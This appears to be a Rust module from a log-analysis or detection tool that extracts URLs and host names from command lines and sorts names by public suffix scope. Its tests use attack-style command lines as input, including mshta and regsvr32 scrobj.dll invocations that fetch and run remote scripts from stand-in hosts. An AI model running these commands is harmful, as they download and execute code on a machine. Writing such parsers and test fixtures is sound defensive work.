//! Host names and URLs in text that a log holds: which are well formed, and where a name belongs. It asks nobody whether they exist.

use std::net::IpAddr;

/// Longest URL that is kept whole, in bytes: no browser of Windows ever took a longer one.
const URL_LIMIT: usize = 2_083;

/// Most URLs of one command line.
const URLS: usize = 50;

/// Where a host name belongs.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum NameScope {
    /// Under a suffix of the public suffix list.
    Public,
    /// Itself such a suffix: whoever registers under it shares it.
    Suffix,
    /// Neither: a single label, `.local`, a company's own tree.
    Local,
}

impl NameScope {
    /// The word used in outputs.
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Public => "public",
            Self::Suffix => "public_suffix",
            Self::Local => "local",
        }
    }

    /// Of a name as [`host_name`] gives it.
    pub fn of(name: &str) -> Self {
        match (psl::suffix(name.as_bytes()).is_some_and(|suffix| suffix.is_known()), psl::domain_str(name)) {
            (true, Some(_)) => Self::Public,
            (true, None) => Self::Suffix,
            (false, _) => Self::Local,
        }
    }
}

/// `text` in lower case without a dot at its end if it is a host name (RFC 1123, 2.1; `_` is let pass, as DNS does), not an address.
pub fn host_name(text: &str) -> Option<String> {
    let name = text.strip_suffix('.').unwrap_or(text).to_ascii_lowercase();
    let letter = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_');
    let label = |label: &str| (1..=63).contains(&label.len()) && label.bytes().all(letter);
    let numeric = name.rsplit('.').next().is_some_and(|last| last.bytes().all(|byte| byte.is_ascii_digit()));
    (name.len() <= 253 && name.split('.').all(label) && !numeric).then_some(name)
}

/// `text` as an address in its shortest form (RFC 5952); an IPv4-mapped one as IPv4.
pub fn address(text: &str) -> Option<String> {
    Some(text.trim().parse::<IpAddr>().ok()?.to_canonical().to_string())
}

/// A URL in a text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Url {
    /// As it stands there, its scheme in lower case; its beginning when it is `cut`.
    pub text: String,
    /// The host in it, without user and port.
    pub host: String,
    /// Whether it is longer than any that works.
    pub cut: bool,
}

/// The URLs in `text` that begin with `http://`, `https://` or `ftp://`, wherever they stand (`/i:http://…`), the first 50 of them.
pub fn urls(text: &str) -> Vec<Url> {
    let mut found = Vec::new();
    let mut rest = text;
    while let Some(at) = rest.find("://").filter(|_| found.len() < URLS) {
        let (before, after) = (rest.get(..at).unwrap_or_default(), rest.get(at + 3..).unwrap_or_default());
        let scheme = before.get(before.trim_end_matches(|c: char| c.is_ascii_alphabetic()).len()..);
        let scheme = scheme.unwrap_or_default().to_ascii_lowercase();
        // The text before may run into the scheme, as in `scripthttp://`.
        let scheme = ["https", "http", "ftp"].into_iter().find(|known| scheme.ends_with(known));
        rest = after;
        if let Some(scheme) = scheme {
            let end = after.find(ends_url).unwrap_or(after.len());
            found.extend(url(scheme, after.get(..end).unwrap_or_default()));
            rest = after.get(end..).unwrap_or_default();
        }
    }
    found
}

/// What cannot stand in a URL (RFC 3986), and quotes and brackets, which command lines put around one.
fn ends_url(character: char) -> bool {
    character.is_whitespace()
        || character.is_control()
        || matches!(character, '"' | '\'' | '<' | '>' | '`' | '^' | '|' | '\\' | '{' | '}' | '⟦' | '⟧')
}

fn url(scheme: &str, after: &str) -> Option<Url> {
    let after = after.trim_end_matches(['.', ',', ';', ':', ')', ']', '!', '?']);
    let authority = after.split(['/', '?', '#']).next().unwrap_or_default();
    let host_and_port = authority.rsplit('@').next().unwrap_or_default();
    let host = match host_and_port.strip_prefix('[') {
        Some(v6) => v6.split(']').next().unwrap_or_default(),
        None => host_and_port.split(':').next().unwrap_or_default(),
    };
    let text = format!("{scheme}://{after}");
    let cut = text.len() > URL_LIMIT;
    let kept = text.get(..text.floor_char_boundary(URL_LIMIT)).unwrap_or_default().to_owned();
    (!host.is_empty()).then(|| Url { text: kept, host: host.to_owned(), cut })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn urls_are_found_wherever_a_command_line_puts_them() {
        let table: &[(&str, &[(&str, &str)])] = &[
            ("mshta.exe https://a.example.net/x.hta", &[("https://a.example.net/x.hta", "a.example.net")]),
            (
                "regsvr32 /s /i:HTTP://203.0.113.9:8080/f.sct scrobj.dll",
                &[("http://203.0.113.9:8080/f.sct", "203.0.113.9")],
            ),
            (
                r#"mshta "javascript:GetObject('script:http://b.example.org/1.sct').Exec();close()""#,
                &[("http://b.example.org/1.sct", "b.example.org")],
            ),
            (
                "x http://u:p@c.example.com:81/?q=1#f (see ftp://d.example.com).",
                &[
                    ("http://u:p@c.example.com:81/?q=1#f", "c.example.com"),
                    ("ftp://d.example.com", "d.example.com"),
                ],
            ),
            ("curl http://[2001:db8::1]:80/a", &[("http://[2001:db8::1]:80/a", "2001:db8::1")]),
            ("a file://srv/share res://x ://y http:// http:///z", &[]),
            ("<b>http://e.example.net<script>", &[("http://e.example.net", "e.example.net")]),
            ("", &[]),
        ];
        for (text, expected) in table {
            let found: Vec<_> = urls(text).into_iter().map(|url| (url.text, url.host)).collect();
            let expected: Vec<_> =
                expected.iter().map(|(text, host)| ((*text).to_owned(), (*host).to_owned())).collect();
            assert_eq!(found, expected, "{text}");
        }
    }

    #[test]
    fn a_text_full_of_urls_or_one_without_end_is_bounded() {
        assert_eq!(urls(&"http://a.example.net ".repeat(10_000)).len(), URLS);
        let long = urls(&format!("http://a.example.net/{}", "é".repeat(100_000)));
        assert!(long[0].cut && long[0].text.len() <= URL_LIMIT);
        assert!(urls(&"://".repeat(100_000)).is_empty());
    }

    #[test]
    fn host_names_are_told_from_other_text() {
        for (text, name) in [
            ("CDN.Example.NET.", Some("cdn.example.net")),
            ("_ldap._tcp.corp.local", Some("_ldap._tcp.corp.local")),
            ("pc01", Some("pc01")),
            ("<b>.example.org", None),
            ("203.0.113.7", None),
            ("a..b", None),
            ("", None),
            ("exa\u{202e}mple.net", None),
        ] {
            assert_eq!(host_name(text).as_deref(), name, "{text}");
        }
        assert_eq!(host_name(&"a.".repeat(200)), None);
        assert_eq!(address("0:0:0:0:0:0:0:1").as_deref(), Some("::1"));
        assert_eq!(address("::ffff:10.0.0.1").as_deref(), Some("10.0.0.1"));
    }

    #[test]
    fn names_have_a_scope_by_the_public_suffix_list() {
        for (name, scope) in [
            ("a.example.co.uk", NameScope::Public),
            ("x.github.io", NameScope::Public),
            ("github.io", NameScope::Suffix),
            ("co.uk", NameScope::Suffix),
            ("dc01.corp.local", NameScope::Local),
            ("dc01", NameScope::Local),
        ] {
            assert_eq!(NameScope::of(name), scope, "{name}");
        }
    }
}
